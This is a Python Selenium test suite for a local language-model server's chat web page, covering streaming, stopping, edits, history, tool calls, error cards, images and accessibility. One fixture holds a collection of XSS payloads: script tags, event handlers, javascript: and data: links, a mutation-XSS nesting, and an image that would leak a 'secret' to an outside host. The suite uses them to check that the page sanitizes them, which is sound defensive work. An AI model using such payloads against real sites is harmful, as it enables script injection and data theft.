"""The chat in Debian's chromium, with a model that says what was chosen: sending, stopping, versions, history, errors, and texts that mean harm."""

import base64
import io
import json
import re

import pytest
import scripted
from PIL import Image, ImageDraw
from server.browsing import browsers, contrasts, overflow, pictures, scheme, text, unnamed
from server.running import Running, wait_for

pytestmark = pytest.mark.slow
TEMPLATE = (
    "{%- if tools -%}{{- tools | tojson -}}{%- endif -%}{%- for m in messages -%}{{- '<|im_start|>' + m.role + '\\n' + (m.content or '') + '<|im_end|>\\n' -}}{%- endfor -%}"
    "{%- if add_generation_prompt -%}{{- '<|im_start|>assistant\\n' -}}{%- endif -%}{#- <think></think> <tool_call></tool_call> -#}"
)
SORTED = '''Merge sort splits a list into halves, sorts each, and **merges** them. It takes `n log n` comparisons at most.

```python
def merge_sort(items: list[int]) -> list[int]:
    """Returns a new list."""
    if len(items) < 2:
        return items
    half = len(items) // 2
    left, right = merge_sort(items[:half]), merge_sort(items[half:])
    merged = []
    while left and right:
        merged.append(left.pop(0) if left[0] <= right[0] else right.pop(0))
    return merged + left + right  # the rest is sorted
```

| Algorithm | Mean | Worst | Stable |
|---|---|---|---|
| Merge sort | n log n | n log n | yes |
| Quicksort | n log n | n² | no |

1. Take it where *stability* matters.
2. For short lists insertion sort is faster.
'''
THOUGHT = (
    "<think>\nThe user asks for the weather in two places. I have a tool for that, so nothing has to be guessed.\n</think>\n\n"
    '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Lisbon", "unit": "celsius"}}\n</tool_call>'
)
SUNNY = "In Lisbon it is **21 °C** and sunny; a light jacket will do for tonight."
LONG = " ".join(f"Sentence number {i} of a long answer." for i in range(30))  # and again, where the end is ignored
HOSTILE = """<script>window.harmed = 1</script>
<img src=x onerror="window.harmed = 2"><svg onload="window.harmed = 3"></svg>
<iframe src="javascript:parent.harmed = 4"></iframe><form action="https://out.invalid/form"><input name="body"></form>

[a link](javascript:window.harmed=5) and [another](data:text/html;base64,PHNjcmlwdD4=) and [good](https://example.com/)

![pixel](https://out.invalid/pixel.png?secret) <a href="jAvAscript:window.harmed=6" id="prompt">x</a> <style>body { display: none }</style>

```html" onmouseover="window.harmed=7
<script>window.harmed = 8</script>
```

$\\href{javascript:window.harmed=9}{x}$ <math><mtext><table><mglyph><style><img src=y onerror=window.harmed=10>
"""
TEXTS = {"sorted": SORTED, "thought": THOUGHT, "sunny": SUNNY, "long": LONG, "hostile": HOSTILE}
TOOLS = [{"type": "function", "function": {"name": "get_weather", "description": "Weather of a city", "parameters": {"type": "object", "properties": {"city": {"type": "string"}, "unit": {"type": "string"}}}}}]  # fmt: skip


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """The model, and the token that begins each text."""
    path = tmp_path_factory.mktemp("said") / "scripted.gguf"
    return path, dict(zip(TEXTS, scripted.write(path, list(TEXTS.values()), TEMPLATE)))


@pytest.fixture(scope="module")
def server(model):
    with Running("-m", model[0], "--slots", 1, "--queue", 0, "--spec-type", "suffix", "--draft-width", 8, "-c", 8192) as running:
        yield running


def chosen(model, name: str) -> str:
    """Fields of a request for a text; the long one comes slowly, and has no end."""
    slow = {"ignore_eos": True, "logprobs": True, "top_logprobs": 20} if name == "long" else {}
    return json.dumps({"logit_bias": [[model[1][name], 50]], "temperature": 0, **slow})


@pytest.fixture
def page(server, browser, model):
    """The page with an empty history; what it is called with chooses what the model says, and further settings."""
    browser.get(server.url)
    browser.execute_script("localStorage.clear(); sessionStorage.clear()")
    browser.get("about:blank")
    browser.get(server.url)
    wait_for(lambda: "n-gram drafting" in text(browser, "about"))

    def says(name: str, **more: object) -> None:
        settings = {"more": chosen(model, name), **more}
        browser.execute_script("localStorage.setItem('pyspec.settings', JSON.stringify(arguments[0]))", settings)

    yield says
    assert [
        entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE" and "Failed to load resource" not in entry["message"]
    ] == []


def send(browser, words: str) -> None:
    from selenium.webdriver.common.keys import Keys

    browser.execute_script("document.getElementById('prompt').value = arguments[0]", words)
    browser.find_element("id", "prompt").send_keys(Keys.ENTER)


def idle(browser) -> bool:
    return not browser.find_element("id", "stop").is_displayed() and browser.find_element("id", "send").is_displayed()


def ask(browser, words: str) -> None:
    count = len(browser.find_elements("css selector", ".message.user"))
    send(browser, words)
    wait_for(lambda: len(browser.find_elements("css selector", ".message.user")) > count and idle(browser))


def last(browser, css: str):
    """The last element in the last message."""
    return browser.execute_script("return [...document.querySelectorAll('.message:last-child ' + arguments[0])].at(-1)", css)


def words(browser, css: str) -> str:
    """Its text; of the message itself without ``css``."""
    script = "return [...document.querySelectorAll(('.message:last-child ' + arguments[0]).trim())].at(-1)?.innerText ?? ''"
    return browser.execute_script(script, css)


def press(browser, name: str) -> None:
    """The last button of that name."""
    script = """
        const found = [...document.querySelectorAll('button')].filter((b) => !b.disabled && [b.ariaLabel, b.innerText].includes(arguments[0])).at(-1);
        found?.click();
        return Boolean(found);"""
    wait_for(lambda: browser.execute_script(script, name))


def titles(browser) -> list[str]:
    return browser.execute_script("return [...document.querySelectorAll('#conversations .name')].map(e => e.textContent)")


def choose(browser, title: str) -> None:
    browser.execute_script(
        "[...document.querySelectorAll('#conversations .name')].find(e => e.textContent === arguments[0]).click()", title
    )


def said(browser, role: str = "assistant") -> list[str]:
    """Texts of a role, of what is shown."""
    return browser.execute_script(
        "return [...document.querySelectorAll(arguments[0])].map(e => e.textContent.trim())",
        {"user": ".user .said", "assistant": ".assistant > .markdown"}[role],
    )


def stored(browser) -> list[dict]:
    keys = "return Object.keys(localStorage).filter(k => k.startsWith('pyspec.chat.')).map(k => JSON.parse(localStorage[k]))"
    return browser.execute_script(keys)


@browsers
def test_an_answer_with_markdown_code_and_figures(server, browser, page, sized):
    page("sunny")
    for title in ("A jacket for Lisbon tonight?", "Weather in Porto tomorrow"):
        press(browser, "New conversation")
        ask(browser, title)
    page("sorted", system="You are a terse programmer.")
    press(browser, "New conversation")
    ask(browser, "How does merge sort work?\nWith code, please.")
    assert browser.find_elements("css selector", ".assistant strong, .assistant table td")[0].text == "merges"
    wait_for(lambda: browser.find_elements("css selector", ".assistant .hljs-keyword"))
    assert (
        last(browser, ".code code").get_attribute("textContent").startswith("def merge_sort")
        and len(browser.find_elements("css selector", ".assistant ol li")) == 2
    )
    answers = [m for one in stored(browser) for m in one["messages"].values() if m["role"] == "assistant"]
    message = next(m for m in answers if m["text"].strip() == SORTED.strip())
    browser.execute_cdp_cmd("Browser.grantPermissions", {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]})
    press(browser, "Copy code")
    wait_for(lambda: "Copied" in words(browser, ".code-head"))
    last(browser, ".figures-button").click()
    shown = words(browser, ".figures dl")
    told = message["figures"]
    assert f"{told['predicted_n']} tokens in" in shown and f"{told['tokens_per_step']:.2f}" in shown and "tokens per second" in shown
    press(browser, "Regenerate")  # n-grams of the first answer draft the same one
    wait_for(lambda: idle(browser))
    assert said(browser)[0].startswith("Merge sort") and words(browser, ".versions").replace("\n", " ").strip() == "2 / 2"
    assert "terse" in text(browser, "system-line") and sum(one["system"] == "You are a terse programmer." for one in stored(browser)) == 1
    accepted = ""
    for _ in range(6):  # on a busy machine the policy may decode plainly for a while
        last(browser, ".figures-button").click()
        for summary in browser.find_elements("css selector", ".figures summary"):
            summary.click()
        accepted = browser.execute_script("return [...document.querySelectorAll('.drafts .accepted')].map(e => e.textContent).join('')")
        if len(accepted) > 100:
            break
        press(browser, "Regenerate")
        wait_for(lambda: idle(browser))
    assert len(accepted) > 100 and accepted[:12] in SORTED and "Accepted" in words(browser, ".figures table")
    assert overflow(browser) == [] and unnamed(browser) == []
    browser.execute_script("document.querySelectorAll('.figures details').forEach(e => { e.open = false; })")
    pictures(browser, "chat-answer.png", height=880)
    sized(360)
    assert overflow(browser) == []


@browsers
def test_stop_and_continue(server, browser, page):
    from selenium.webdriver.common.keys import Keys

    page("long")
    send(browser, "Go on for long")
    wait_for(lambda: said(browser) and "number 3" in said(browser)[0])
    assert browser.find_element("css selector", ".message:last-child").get_attribute("aria-busy") == "true"
    browser.find_element("id", "prompt").send_keys(Keys.ESCAPE)
    wait_for(lambda: idle(browser))
    assert "Stopped." in words(browser, "") and server.slots_are_free()
    page("sunny", max_tokens=4)
    press(browser, "New conversation")
    ask(browser, "Weather")
    before = said(browser)[0]
    assert "limit of tokens" in words(browser, "") and before and "jacket" not in before
    page("sunny")
    press(browser, "Continue")
    wait_for(lambda: idle(browser) and "jacket" in said(browser)[0])
    assert said(browser)[0].startswith(before.strip()) and len(said(browser)) == 1


@browsers
def test_edits_and_versions_lose_nothing(browser, page):
    from selenium.webdriver.common.keys import Keys

    page("sunny")
    ask(browser, "How warm is it in Lisbon?")
    ask(browser, "And tomorrow?")
    browser.execute_script("document.querySelector('.user [aria-label=\"Edit message\"]').click()")
    field = browser.switch_to.active_element
    assert field.get_attribute("value") == "How warm is it in Lisbon?"
    pictures(browser, "chat-edit.png", "dark")
    field.send_keys(Keys.SHIFT, Keys.ENTER, Keys.NULL, "in two lines", Keys.ENTER)
    wait_for(lambda: said(browser, "user") == ["How warm is it in Lisbon?\nin two lines"] and idle(browser))
    assert len(said(browser)) == 1
    browser.execute_script("document.querySelector('[aria-label=\"Previous version\"]').click()")
    assert said(browser, "user") == ["How warm is it in Lisbon?", "And tomorrow?"] and len(said(browser)) == 2


@browsers
def test_history_survives_and_is_bounded(server, browser, page, sized):
    page("sunny")
    for title in ("Weather in Lisbon", "Weather in Porto"):
        press(browser, "New conversation")
        ask(browser, title)
    browser.refresh()
    wait_for(lambda: said(browser, "user") == ["Weather in Porto"])
    assert titles(browser) == ["Weather in Porto", "Weather in Lisbon"]
    choose(browser, "Weather in Lisbon")
    assert said(browser, "user") == ["Weather in Lisbon"]
    press(browser, "Delete Weather in Lisbon")
    assert titles(browser) == ["Weather in Porto"] and said(browser) == []
    press(browser, "Undo")
    assert titles(browser) == ["Weather in Porto", "Weather in Lisbon"]
    exported = browser.execute_async_script("import('/page/history.js').then(h => arguments[0](h.exported()))")
    assert len(json.loads(exported)["conversations"]) == 2
    script = """
        const [text, done] = arguments;
        import('/page/history.js').then((h) => {
          localStorage.clear();
          const came = h.imported(text);
          const gone = [];
          for (let i = 0; i < h.MOST; i++) gone.push(...h.save({ ...h.create(''), title: 'many ' + i, updated: 2e12 + i }));
          const big = { ...h.create(''), title: 'big', updated: 3e12, messages: { a: { text: 'x'.repeat(3_999_000) } } };
          const room = h.save(big).length;
          let refused = '';
          try { h.save({ ...big, id: 'other', messages: { a: { text: 'x'.repeat(6_000_000) } } }); } catch (error) { refused = error.message; }
          done([came, gone, room, h.list().length, refused]);
        });"""
    came, gone, room, left, refused = browser.execute_async_script(script, exported)
    assert came == 2 and sorted(gone) == ["Weather in Lisbon", "Weather in Porto"] and room > 100 and left < 100 and "not kept" in refused


@browsers
def test_thinking_is_folded_and_tools_are_called(browser, page, sized):
    page("thought", tools=json.dumps(TOOLS))
    ask(browser, "What is the weather in Lisbon?")
    assert (
        last(browser, ".thinking").get_attribute("open") is None
        and "Thought" in words(browser, ".thinking")
        and "guessed" not in words(browser, ".thinking")
    )
    last(browser, ".thinking summary").click()
    wait_for(lambda: "nothing has to be guessed" in words(browser, ".thinking"))
    assert words(browser, ".call-head code") == "get_weather" and json.loads(words(browser, ".call pre code")) == {
        "city": "Lisbon",
        "unit": "celsius",
    }
    page("sunny", tools=json.dumps(TOOLS))
    last(browser, ".results textarea").send_keys('{"temperature": 21, "sky": "clear"}')
    press(browser, "Send result")
    wait_for(lambda: idle(browser) and len(said(browser)) == 2)
    assert said(browser)[1].startswith("In Lisbon") and "clear" in browser.find_element("css selector", ".call .result").text
    assert sorted(m["role"] for m in stored(browser)[0]["messages"].values()) == ["assistant", "assistant", "tool", "user"]
    browser.find_element("css selector", ".thinking summary").click()
    pictures(browser, "chat-tools.png", "dark")
    sized(360)
    assert overflow(browser) == []


@browsers
def test_hostile_text_does_nothing(server, browser, page):
    """Scripts, handlers, links that run, and images that would tell another site: none of it gets through, and the policy would hold it too."""
    page("hostile", system='<img src=x onerror="window.harmed = 11">')
    press(browser, "New conversation")
    browser.execute_script("window.blocked = []; addEventListener('securitypolicyviolation', (e) => blocked.push(e.blockedURI))")
    ask(browser, '<img src=x onerror="window.harmed = 12">')
    assert "window.harmed = 1" in said(browser)[0]  # as text
    links = browser.execute_script(
        "return [...document.querySelectorAll('.assistant a')].map(a => [a.textContent, a.getAttribute('href'), a.rel])"
    )
    assert [link for link in links if link[1]] == [[name, to, "noopener noreferrer nofollow"] for name, to in (
        ("good", "https://example.com/"), ("pixel (image, not loaded)", "https://out.invalid/pixel.png?secret"))]  # fmt: skip
    found = "return [...document.querySelectorAll('#messages *')].filter(e => /^(SCRIPT|STYLE|IFRAME|FORM|INPUT|IMG|MATH|OBJECT)$/.test(e.tagName) || [...e.attributes].some(a => /^on/.test(a.name))).map(e => e.outerHTML)"  # fmt: skip
    assert browser.execute_script(found) == []
    assert browser.execute_script("return [window.harmed, window.blocked]") == [None, []]
    loads = browser.execute_script("return performance.getEntriesByType('resource').map(e => new URL(e.name).host)")
    assert set(loads) == {server.url.split("//")[1]}
    refused = "try { document.createElement('div').innerHTML = '<b>x</b>'; return ''; } catch (error) { return error.name; }"
    assert browser.execute_script(refused) == "TypeError"  # trusted types: not even a mistake of ours could
    browser.get_log("browser")  # which says so


@browsers
def test_errors_say_what_to_do(server, browser, page, sized, model):
    page("sunny")
    ask(browser, "Summarise this log.\n" + "2026-11-26 12:00:01 GET /v1/models 200\n" * 400)
    card = words(browser, ".error-card")
    assert "The context is full" in card and "exceeds the available context size of 8192" in card
    assert last(browser, ".error-card").get_attribute("role") == "alert"
    pictures(browser, "chat-error.png")
    sized(360)
    assert overflow(browser) == []
    press(browser, "New conversation")
    page("long")
    send(browser, "Keeps the only slot")
    wait_for(lambda: said(browser) and said(browser)[0])
    press(browser, "New conversation")
    ask(browser, "Comes too late")
    assert "The server is busy" in words(browser, ".error-card")
    choose(browser, "Keeps the only slot")
    assert said(browser, "user") == ["Keeps the only slot"]
    press(browser, "Stop")
    wait_for(lambda: idle(browser) and server.slots_are_free())
    choose(browser, "Comes too late")
    page("sunny")
    wait_for(lambda: "Try again in" not in words(browser, ".error-card"))
    press(browser, "Try again")
    wait_for(lambda: idle(browser) and "Lisbon" in said(browser)[0])
    browser.execute_script("window.fetch = () => Promise.reject(new TypeError('Failed to fetch'))")
    ask(browser, "Is anyone there?")
    assert "The server cannot be reached" in words(browser, ".error-card") and "pyspec serve" in words(browser, ".error-card")


@browsers
def test_a_server_that_ends_and_one_with_a_key(browser, model):
    settings = json.dumps({"more": chosen(model, "long")})
    with Running("-m", model[0], "--slots", 1, "--api-key", "sesame", "--drain", 0) as running:
        browser.get(running.url)
        browser.execute_script("localStorage.setItem('pyspec.settings', arguments[0])", settings)
        wait_for(lambda: browser.find_element("id", "settings").is_displayed())
        press(browser, "Cancel")
        ask(browser, "Let me in")
        assert "needs an API key" in words(browser, ".error-card")
        last(browser, ".error-card input").send_keys("sesame")
        press(browser, "Use this key")
        wait_for(lambda: said(browser) and "number 3" in said(browser)[0])
        running.end()
        wait_for(lambda: idle(browser))
        assert (
            re.search("cut off|cannot be reached|takes no requests|failed", words(browser, ".error-card"))
            and "Sentence number" in said(browser)[0]
        )


DROP = """
    const [data, kind] = arguments, carried = new DataTransfer(), more = { bubbles: true, cancelable: true };
    carried.items.add(new File([Uint8Array.from(atob(data), (c) => c.charCodeAt(0))], 'picture.png', { type: 'image/png' }));
    const event = kind === 'paste' ? new ClipboardEvent(kind, { clipboardData: carried, ...more }) : new DragEvent(kind, { dataTransfer: carried, ...more });
    document.getElementById('prompt').dispatchEvent(event);"""


@pytest.fixture(scope="module")
def png():
    """A picture's file in base64."""
    out = io.BytesIO()
    image = Image.new("RGB", (240, 160), "seagreen")
    ImageDraw.Draw(image).ellipse((70, 30, 170, 130), "crimson")
    image.save(out, "PNG")
    return base64.b64encode(out.getvalue()).decode()


@browsers
def test_images_where_the_model_sees_none(browser, page, png):
    for kind in ("drop", "paste"):
        browser.execute_script("document.getElementById('notices').replaceChildren()")
        browser.execute_script(DROP, png, kind)
        wait_for(lambda: "sees no images" in text(browser, "notices"))
    assert not browser.find_element("id", "attach").is_displayed()


@browsers
def test_images_where_the_model_sees_them(browser, tmp_path, png):
    """Dropped and pasted ones, of which one is removed again; the next turn sends the other with the conversation."""
    pytest.importorskip("pyggml_spec._mtmd")
    from random_gguf.mmproj import CONTROL, write_mmproj

    target, answer = tmp_path / "seeing.gguf", "A red disc on a green field."
    scripted.write(target, [answer], TEMPLATE, CONTROL["gemma3"])
    write_mmproj(tmp_path / "mmproj.gguf", "gemma3", scripted.WIDTH)
    with Running("-m", target, "--slots", 1, "-c", 1024) as running:
        browser.get(running.url)
        browser.execute_script("localStorage.clear()")
        browser.get(running.url)
        wait_for(lambda: browser.find_element("id", "attach").is_displayed())
        for kind in ("drop", "paste"):
            browser.execute_script(DROP, png, kind)
        wait_for(lambda: len(browser.find_elements("css selector", "#attached img")) == 2)
        press(browser, "Remove image 2")
        ask(browser, "What is this?")
        assert said(browser) == [answer]
        pictures(browser, "chat-image.png")
        ask(browser, "And now?")
        messages = stored(browser)[0]["messages"].values()
        assert [m["images"] for m in messages if m.get("images")] == [[f"data:image/png;base64,{png}"]]
        read = [m["figures"]["prompt_n"] + m["figures"]["cache_n"] for m in messages if m["role"] == "assistant"]
        assert min(read) > 30 and len(read) == 2 and len(browser.find_elements("css selector", ".user .images img")) == 1


@browsers
def test_it_is_read_in_light_and_dark_and_used_by_keyboard(server, browser, page, sized):
    from selenium.webdriver.common.keys import Keys

    colours = "ink back, ink side, soft back, soft side, soft panel, soft bubble, ink bubble, soft hover, accent back, on-accent accent, bad bad-back, ink bad-back, ink code, c-key code, c-string code, c-number code, c-name code, c-note code"  # fmt: skip
    for name in ("light", "dark"):
        scheme(browser, name)
        for pair, contrast in contrasts(browser, colours).items():
            assert contrast >= 4.5, (name, pair, contrast)
    scheme(browser, "light")
    browser.get(server.url)
    wait_for(lambda: "n-gram" in text(browser, "about"))
    assert browser.switch_to.active_element.get_attribute("id") == "prompt" and unnamed(browser) == []
    pictures(browser, "chat-start.png")
    sized(360)
    wait_for(lambda: not browser.find_element("id", "side").is_displayed())
    assert overflow(browser) == []
    browser.find_element("id", "menu").send_keys(Keys.ENTER)
    wait_for(lambda: browser.switch_to.active_element.get_attribute("id") == "new")
    assert overflow(browser) == []
    browser.switch_to.active_element.send_keys(Keys.ESCAPE)
    assert browser.switch_to.active_element.get_attribute("id") == "menu"
    browser.find_element("id", "open-settings").click()
    browser.find_element("id", "set-system").send_keys("You are a terse programmer.")
    pictures(browser, "chat-settings.png", "dark")
    sized(360)
    browser.find_element("css selector", "#settings summary").click()
    browser.find_element("id", "set-tools").send_keys("no list")
    press(browser, "Save")
    assert "JSON list" in browser.execute_script("return document.getElementById('set-tools').validationMessage")
    assert overflow(browser) == [] and browser.find_element("id", "settings").is_displayed()
    browser.switch_to.active_element.send_keys(Keys.ESCAPE)
    wait_for(lambda: not browser.find_element("id", "settings").is_displayed())


@browsers
def test_models_of_a_router(browser, tmp_path):
    """The one that is chosen is loaded with the first message."""
    texts = {"first": "The first one says these words.", "second": "Other words come from another model.", "third": "No words."}
    for name, words_of in texts.items():
        scripted.write(tmp_path / f"{name}.gguf", [words_of], TEMPLATE)
    with Running("--models-dir", tmp_path, "-c", 512, "--slots", 1) as running:
        browser.get(running.url)
        wait_for(lambda: "first is loaded with the first message" in text(browser, "about"))
        browser.find_element("css selector", "#models option[value='second']").click()
        wait_for(lambda: "second is loaded" in text(browser, "about"))
        ask(browser, "Say it")
        assert said(browser) == [texts["second"]]
        wait_for(lambda: re.match("second,.* 512 tokens of context", text(browser, "about")))
        (tmp_path / "third.gguf").unlink()
        browser.find_element("css selector", "#models option[value='third']").click()
        wait_for(lambda: "third is not on this server any more: second answers from now on" in text(browser, "notices"))
